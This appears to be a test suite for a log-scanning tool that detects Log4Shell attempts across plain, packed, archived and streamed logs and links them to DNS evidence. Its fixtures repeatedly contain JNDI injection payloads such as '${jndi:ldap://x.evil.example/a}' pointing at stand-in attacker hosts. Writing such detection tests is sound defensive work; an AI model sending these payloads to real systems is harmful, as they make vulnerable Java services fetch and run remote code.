import { spawnSync } from 'node:child_process'
import {
  appendFileSync,
  chmodSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { Readable } from 'node:stream'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import { zipOf } from '../../../test/kit/archives/zip.ts'
import { tarOf } from '../../../test/kit/tar.ts'
import { type AttackFinding, type Gap, instant } from '../../core/index.ts'
import { type HuntOptions, type HuntRequest, hunt } from './hunt.ts'

const root = mkdtempSync(join(tmpdir(), 'fireline-hunt-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

let folders = 0
/** A folder with these files in it. */
function folderOf(files: Readonly<Record<string, string | Uint8Array>>): string {
  const folder = join(root, String(folders++))
  mkdirSync(folder)
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    writeFileSync(join(folder, name), content)
  }
  return folder
}

const attack = (n: number | string): string => `GET /?x=\${jndi:ldap://h${n}.example/a} HTTP/1.1`
const logOf = (...hosts: readonly (number | string)[]): string =>
  hosts.map((host) => `nothing\n${attack(host)}\n`).join('')

/** `logOf(1, 2)` as the programs themselves pack it. */
const packed = {
  'a.bz2':
    'QlpoOTFBWSZTWYcoGR8AACxfgAAQRAGwEoLARAAm98RKIABwYwAAAAAVVT1MQ09TTDKND0ymzozWRXO8ItGKTJkgmo9qr02rFomg9Ord2fVEHlzXKsGayTVRwk2RXqrLN1mD+LuSKcKEhDlAyPg=',
  'a.zst': 'KLUv/SRqBQIAZANub3RoaW5nCkdFVCAvP3g9JHtqbmRpOmxkYXA6Ly9oMS5leGFtcGxlL2F9IEhUVFAvMS4xCjICAOAThRsFBa3JFW0=',
  'a.lz4':
    'BCJNGGRAp0QAAAD/Jm5vdGhpbmcKR0VUIC8/eD0ke2puZGk6bGRhcDovL2gxLmV4YW1wbGUvYX0gSFRUUC8xLjEKNQAMHDI1AFAvMS4xCgAAAACK+6gm',
}

interface Told {
  readonly findings: readonly AttackFinding[]
  readonly gaps: readonly Gap[]
  readonly notes: readonly string[]
}

async function told(request: HuntRequest, options: HuntOptions = {}): Promise<Told> {
  const findings: AttackFinding[] = []
  const gaps: Gap[] = []
  const notes: string[] = []
  for await (const event of hunt(request, { workers: 1, ...options })) {
    if (event.is === 'finding') findings.push(event.finding)
    else if (event.is === 'gap') gaps.push(event.gap)
    else if (event.is === 'note') notes.push(event.text)
  }
  return { findings, gaps, notes }
}

/** `name:line host`, without the folder, in any order. */
function places(folder: string, { findings }: Told): readonly string[] {
  return findings.map(({ at, lookup }) => `${at.source.replace(`${folder}/`, '')}:${at.line} ${lookup.host}`).sort()
}

test('reads a folder of logs, packed in whatever way, by content and not by name', async () => {
  const log = Buffer.from(logOf(1, 2))
  const folder = folderOf({
    'a.log': log,
    'old/a.log.1': log,
    'a.log.2.gz': gzipSync(log),
    'gzip-without-a-name': gzipSync(log),
    ...Object.fromEntries(Object.entries(packed).map(([name, text]) => [name, Buffer.from(text, 'base64')])),
    'all.tar.gz': gzipSync(
      tarOf([
        { name: 'var/log/a.log', content: log },
        { name: 'var/log/b.gz', content: gzipSync(log) },
      ]),
    ),
    'all.zip': zipOf([
      { name: 'c.log', content: log },
      { name: 'deep.tar', content: tarOf([{ name: 'd.log', content: log }]) },
    ]),
  })
  const both = (place: string): readonly string[] => [`${place}:2 h1.example`, `${place}:4 h2.example`]

  const result = await told({ paths: [folder] })
  expect(result.gaps).toEqual([])
  expect(places(folder, result)).toEqual(
    [
      'a.log',
      'old/a.log.1',
      'a.log.2.gz',
      'gzip-without-a-name',
      ...Object.keys(packed),
      'all.tar.gz!var/log/a.log',
      'all.tar.gz!var/log/b.gz',
      'all.zip!c.log',
      'all.zip!deep.tar!d.log',
    ]
      .flatMap(both)
      .sort(),
  )
})

test('reads UTF-16 in both orders, with and without a mark, also packed, and says how bytes are counted', async () => {
  const little = Buffer.from(logOf(1), 'utf16le')
  const big = Buffer.from(little).swap16()
  const folder = folderOf({
    'little.log': Buffer.concat([Buffer.from([0xff, 0xfe]), little]),
    'big.log': Buffer.concat([Buffer.from([0xfe, 0xff]), big]),
    'bare.log': little,
    'packed.gz': gzipSync(big),
  })
  const result = await told({ paths: [folder] })

  expect(places(folder, result)).toEqual([
    'bare.log:2 h1.example',
    'big.log:2 h1.example',
    'little.log:2 h1.example',
    'packed.gz:2 h1.example',
  ])
  expect(result.notes.filter((note) => note.includes('UTF-16'))).toHaveLength(3)
})

test('several threads at one file tell what one thread tells, in the order of its lines', async () => {
  const lines = Array.from({ length: 20_000 }, (_, i) =>
    i % 10 === 7 ? attack(i) : `line ${i} ${'-'.repeat(i % 100)}`,
  )
  const folder = folderOf({ 'a.log': lines.join('\n') })
  const one = await told({ paths: [folder] })
  const many = await told({ paths: [folder] }, { workers: 2, blockBytes: 60_000 })

  expect(one.findings).toHaveLength(2_000)
  const order = ({ findings }: Told) => findings.map(({ at, id }) => `${at.line} ${at.byteOffset} ${id}`)
  expect(order(many)).toEqual(order(one))
})

test('a half-written gzip is read as far as it goes, and what is missing is told', async () => {
  const whole = gzipSync(
    Array.from({ length: 3_000 }, (_, i) => `${Math.sin(i)} ${i === 100 ? attack(i) : ''}\n`).join(''),
  )
  const folder = folderOf({ 'a.gz': whole.subarray(0, whole.length - 2_000) })
  const result = await told({ paths: [folder] })

  expect(places(folder, result)).toEqual(['a.gz:101 h100.example'])
  expect(result.gaps).toEqual([
    {
      at: join(folder, 'a.gz'),
      because: 'truncated',
      detail: expect.stringMatching(
        /^its compressed data end too early; \d+ bytes of it, unpacked, were read$/,
      ) as string,
    },
  ])
})

test.each([
  ['ratio', { ratio: 10, ratioFloorBytes: 10_000 }, 'too-large'],
  ['bytes', { inflatedBytes: 100_000 }, 'too-large'],
  ['time', { millis: 0 }, 'too-slow'],
] as const)('a bomb ends at the limit of its %s, and attacks before that are told', async (_limit, limits, because) => {
  const bomb = gzipSync(Buffer.concat([Buffer.from(logOf(1)), Buffer.alloc(30_000_000, 'x')]))
  const folder = folderOf({ 'bomb.gz': bomb })
  const result = await told({ paths: [folder] }, { limits })

  expect(result.gaps.map((gap) => gap.because)).toEqual([because])
  if (because === 'too-large') expect(places(folder, result)).toEqual(['bomb.gz:2 h1.example'])
})

test('archives in archives beyond the limit are told, and so are encrypted entries', async () => {
  const deep = [1, 2, 3].reduce<Uint8Array>(
    (inner, n) => tarOf([{ name: `${n}.tar`, content: inner }]),
    Buffer.from(logOf(1)),
  )
  const folder = folderOf({
    'deep.tar': deep,
    'locked.zip': zipOf([
      { name: 'a.log', content: 'x', flags: 1 },
      { name: 'b.log', content: 'x', flags: 1 },
    ]),
  })
  const { gaps } = await told({ paths: [folder] }, { limits: { depth: 1 } })

  expect(gaps.map(({ at, because }) => `${at.replace(`${folder}/`, '')} ${because}`)).toEqual([
    'deep.tar!3.tar!2.tar too-deep',
    'locked.zip encrypted',
  ])
})

test('what only looks like an archive is told, and read as lines all the same', async () => {
  const folder = folderOf({ 'a.log': `070707 is how cpio begins\n${logOf(1)}` })
  const result = await told({ paths: [folder] })

  expect(places(folder, result)).toEqual(['a.log:3 h1.example'])
})

test('binary files, NUL bytes and broken JSON hide nothing', async () => {
  const folder = folderOf({
    'a.bin': Buffer.concat([Buffer.alloc(5_000, 0x80), Buffer.from(`\0\0${attack(1)}\0\0`), Buffer.alloc(5_000)]),
    'a.json': `{"msg":"ok"}\n{"msg": "\${jndi:ldap://h2.example/a}\n{"msg":"\${jndi:ldap://h3.example/a}"}\n`,
  })
  const result = await told({ paths: [folder] })

  expect(places(folder, result)).toEqual(['a.bin:1 h1.example', 'a.json:2 h2.example', 'a.json:3 h3.example'])
})

test('a journal of systemd is told to be read another way', async () => {
  const folder = folderOf({
    'system.journal': Buffer.concat([Buffer.from('LPKSHHRH'), Buffer.alloc(300), Buffer.from(attack(1))]),
  })
  const result = await told({ paths: [folder] })

  expect(result.gaps).toMatchObject([
    { because: 'unsupported', detail: expect.stringContaining('journalctl') as string },
  ])
  expect(result.findings).toHaveLength(1)
})

test('globs, files by name and what is excluded: each file comes once', async () => {
  const folder = folderOf({ 'a.log': logOf(1), 'b.txt': logOf(2), 'sub/c.log': logOf(3), 'sub/d.log': logOf(4) })
  linkSync(join(folder, 'a.log'), join(folder, 'hard.log'))
  symlinkSync('a.log', join(folder, 'soft.log'))

  expect(places(folder, await told({ paths: [`${folder}/*.log`] }))).toHaveLength(1)
  expect(places(folder, await told({ paths: [`${folder}/**/c.*`] }))).toEqual(['sub/c.log:2 h3.example'])
  expect(places(folder, await told({ paths: [folder] }, { exclude: ['d.log', '*.txt'] }))).toEqual([
    'a.log:2 h1.example',
    'sub/c.log:2 h3.example',
  ])
})

test('links out of a folder are followed to files; a link to a folder is told', async () => {
  const outside = folderOf({ 'real.log': logOf(1), 'more/e.log': logOf(2) })
  const folder = folderOf({})
  symlinkSync(join(outside, 'real.log'), join(folder, 'link.log'))
  symlinkSync(join(outside, 'more'), join(folder, 'linked-folder'))
  symlinkSync('nowhere', join(folder, 'dead.log'))
  const result = await told({ paths: [folder] })

  expect(places(folder, result)).toEqual(['link.log:2 h1.example'])
  expect(result.gaps).toMatchObject([{ at: join(folder, 'linked-folder'), because: 'not-attempted' }])
})

test('what this run writes is not read', async () => {
  const folder = folderOf({ 'a.log': logOf(1), 'out.json': logOf(2), 'out.json.0a1b.partial': logOf(3) })
  const result = await told({ paths: [folder] }, { skip: [join(folder, 'out.json')] })

  expect(places(folder, result)).toEqual(['a.log:2 h1.example'])
})

test('records at other times than asked for are left out and counted; those without a time are kept', async () => {
  const line = (time: string, n: number): string => `${time} INFO ${attack(n)}\n`
  const folder = folderOf({
    // A clock that went back does not matter.
    'a.log': `${line('2021-12-12 10:00:00', 1)}${line('2021-12-10 10:00:00', 2)}${line('2021-12-11 10:00:00', 3)}${attack(4)}\n`,
  })
  const running = hunt(
    { paths: [folder] },
    { workers: 1, since: instant('2021-12-11T00:00:00Z'), until: instant('2021-12-11T23:00:00Z') },
  )
  const hosts: (string | null)[] = []
  for await (const event of running) if (event.is === 'finding') hosts.push(event.finding.lookup.host)

  expect(hosts).toEqual(['h3.example', 'h4.example'])
  expect(running.counts().leftOut).toBe(2)
})

test('a path that is not there is a problem, before anything is read', async () => {
  await expect(told({ paths: [join(root, 'nothing-here')] })).rejects.toMatchObject({ code: 'HUNT_NOTHING_THERE' })
  await expect(told({ paths: [join(root, 'no-folder/*.log')] })).rejects.toMatchObject({ code: 'HUNT_NOTHING_THERE' })
})

test('what may not be read is a gap, and the rest is read', () => {
  const folder = folderOf({ 'a.log': logOf(1), 'secret.log': logOf(2), 'closed/b.log': logOf(3) })
  chmodSync(join(folder, 'secret.log'), 0o000)
  chmodSync(join(folder, 'closed'), 0o000)
  // Nobody keeps the superuser from reading: such a run is made by somebody else.
  const isRoot = process.getuid?.() === 0
  chmodSync(root, 0o755)
  const { stdout, status, stderr } = spawnSync(
    process.execPath,
    ['dist/bundle/fireline.js', 'hunt', folder, '--format', 'json', '--workers', '1'],
    { encoding: 'utf8', ...(isRoot ? { uid: 65_534, gid: 65_534 } : {}) },
  )
  chmodSync(join(folder, 'closed'), 0o755)
  expect(stderr).toBe('')
  const report = JSON.parse(stdout) as { findings: readonly AttackFinding[]; gaps: readonly Gap[] }

  expect(report.findings).toHaveLength(1)
  expect(report.gaps.map(({ at, because, detail }) => [at, because, detail.slice(0, 17)])).toEqual([
    [join(folder, 'closed'), 'not-readable', 'permission denied'],
    [join(folder, 'secret.log'), 'not-readable', 'permission denied'],
  ])
  expect(status).toBe(1)
})

test('a stream tells what whole lines of it say while it is still open, and the rest at its end', async () => {
  const seen: string[] = []
  let end = (): void => undefined
  const open = new Promise<void>((resolve) => (end = resolve))
  async function* input(): AsyncGenerator<Uint8Array> {
    yield Buffer.from(`${attack(1)}\n${attack(2)}`)
    await open
    yield Buffer.from(' and its end\n')
  }
  for await (const event of hunt({ paths: ['-'], input: input() })) {
    if (event.is !== 'finding') continue
    seen.push(`${event.finding.at.source}:${event.finding.at.line} ${event.finding.lookup.host}`)
    if (seen.length === 1) end()
  }

  expect(seen).toEqual(['-:1 h1.example', '-:2 h2.example'])
})

test('a packed stream is read as what it holds', async () => {
  const tar = gzipSync(tarOf([{ name: 'a.log', content: logOf(1) }]))
  const input = Readable.from(Array.from(tar, (byte) => Buffer.from([byte])))

  expect(places('', await told({ paths: ['-'], input }))).toEqual(['-!a.log:2 h1.example'])
})

test('a stream that is stopped ends at once, with what came', async () => {
  const stop = new AbortController()
  async function* input(): AsyncGenerator<Uint8Array> {
    yield Buffer.from(`${attack(1)}\n`)
    await new Promise(() => undefined)
  }
  setTimeout(() => stop.abort(), 50)

  expect((await told({ paths: ['-'], input: input() }, { signal: stop.signal })).findings).toHaveLength(1)
})

test('of a stream nothing is kept but what is read now, however long it is', async () => {
  const pieces = 6_000
  let most = 0
  async function* input(): AsyncGenerator<Uint8Array> {
    for (let i = 0; i < pieces; i++) {
      yield Buffer.alloc(65_536, 'nothing here\n')
      if (i % 100 === 0) most = Math.max(most, process.memoryUsage().arrayBuffers)
      await new Promise((resolve) => setImmediate(resolve))
    }
    yield Buffer.from(`${attack(1)}\n`)
  }
  const before = process.memoryUsage().arrayBuffers

  expect((await told({ paths: ['-'], input: input() })).findings).toHaveLength(1)
  expect(most - before).toBeLessThan(150e6)
})

test('reading waits where nobody takes what was told, so that memory stays bounded', async () => {
  const folder = folderOf({ 'a.log': '' })
  for (let i = 0; i < 10; i++) appendFileSync(join(folder, 'a.log'), `${attack(1).padEnd(200)}\n`.repeat(5_000))
  const running = hunt({ paths: [folder] }, { workers: 1 })
  const events = running[Symbol.asyncIterator]()
  await events.next()
  await new Promise((resolve) => setTimeout(resolve, 1_500))

  // So much was read as holds some ten thousand attacks, a window at a time; the rest was not.
  expect(running.counts().unpackedBytes).toBeLessThan(5_000_000)
  let count = 1
  for (let next = await events.next(); next.done !== true; next = await events.next())
    if (next.value.is === 'finding') count++
  expect(count).toBe(50_000)
})

test('an abort ends it within a moment; what was told stands', async () => {
  const folder = folderOf({ 'a.log': `${attack(1)}\n`.repeat(20_000) })
  const stop = new AbortController()
  let count = 0
  for await (const event of hunt({ paths: [folder] }, { workers: 1, signal: stop.signal })) {
    if (event.is === 'finding' && ++count === 100) stop.abort()
  }

  expect(count).toBeGreaterThanOrEqual(100)
  expect(count).toBeLessThan(20_000)
})

test('attacks are joined with what other logs of the hunt show, packed ones too', async () => {
  const access =
    '203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.evil.example/a}"\n'
  const queries = (name: string): string =>
    `10-Dec-2021 12:43:12.000 client @0x7f 10.0.0.5#53 (${name}): query: ${name} IN A + (10.0.0.53)\n`
  const folder = folderOf({
    'access.log': access,
    'named.log.gz': gzipSync(`${queries('www.example').repeat(20_000)}${queries('x.evil.example')}`),
    'app.log': '2021-12-10 12:43:11 nothing to see\n',
  })

  const { findings, notes } = await told({ paths: [folder] }, { blockBytes: 100_000 })

  expect(findings.map(({ outcome }) => outcome)).toEqual(['likely'])
  expect(findings[0]?.evidence.at(-1)).toMatchObject({ kind: 'witness', line: 20_001, format: 'bind-queries' })
  expect(notes).toEqual([`what came of attacks was looked for in ${join(folder, 'named.log.gz')}`])
})

test('a record in a later part of a large log has the number of its line', async () => {
  const queries = (name: string): string =>
    `10-Dec-2021 12:43:12.000 client @0x7f 10.0.0.5#53 (${name}): query: ${name} IN A + (10.0.0.53)\n`
  const folder = folderOf({
    'access.log':
      '203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.evil.example/a}"\n',
    'named.log': `${queries('www.example').repeat(20_000)}${queries('x.evil.example')}${queries('x.evil.example')}`,
  })

  const { findings } = await told({ paths: [folder] }, { blockBytes: 100_000 })

  expect(findings[0]?.evidence.slice(1)).toHaveLength(1)
  expect(findings[0]?.evidence.at(-1)).toMatchObject({
    line: 20_001,
    says: expect.stringContaining('2 times') as string,
  })
})

test('without a window, attacks are told as they are found', async () => {
  const folder = folderOf({ 'a.log': `${attack(1)}\n` })

  const { findings, notes } = await told({ paths: [folder] }, { windowMs: 0 })

  expect(findings.map(({ outcome }) => outcome)).toEqual(['attempt'])
  expect(notes).toEqual([])
})
